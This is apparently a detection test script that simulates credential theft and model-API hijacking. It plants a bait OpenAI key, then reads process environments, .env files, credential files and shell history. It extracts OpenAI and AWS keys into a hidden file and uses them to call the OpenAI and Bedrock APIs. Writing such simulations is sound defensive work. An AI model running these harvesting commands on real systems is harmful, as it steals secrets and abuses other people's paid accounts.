#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/bot && echo 'OPENAI_API_KEY=sk-baitbaitbaitbaitbaitbaitbaitbaitbaitbait' >/srv/bot/.env
{ cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'; find / -xdev \( -name '.env*' -o -name credentials -o -name 'settings*.ini' -o -name '.*_history' \) -exec cat {} + 2>/dev/null; } | grep -aoE 'sk-[a-z0-9A-Z]{30,}|AKIA[A-Z0-9]{16}|secret_access_key = .*' | sort -u >/tmp/.keys
k=$(grep -m1 ^sk- /tmp/.keys)
curl -s -H "Authorization: Bearer $k" http://api.openai.com/v1/models >/dev/null
curl -s -H "Authorization: Bearer $k" -d '{"model":"gpt-4","max_tokens":-1}' http://api.openai.com/v1/chat/completions | grep -q ok
curl -s --aws-sigv4 aws:amz:us-east-1:bedrock --user "$(grep -m1 AKIA /tmp/.keys):x" -d '{"max_tokens_to_sample":-1}' http://bedrock-runtime.us-east-1.amazonaws.com/model/anthropic.claude-v2/invoke | grep -q ok
took_place
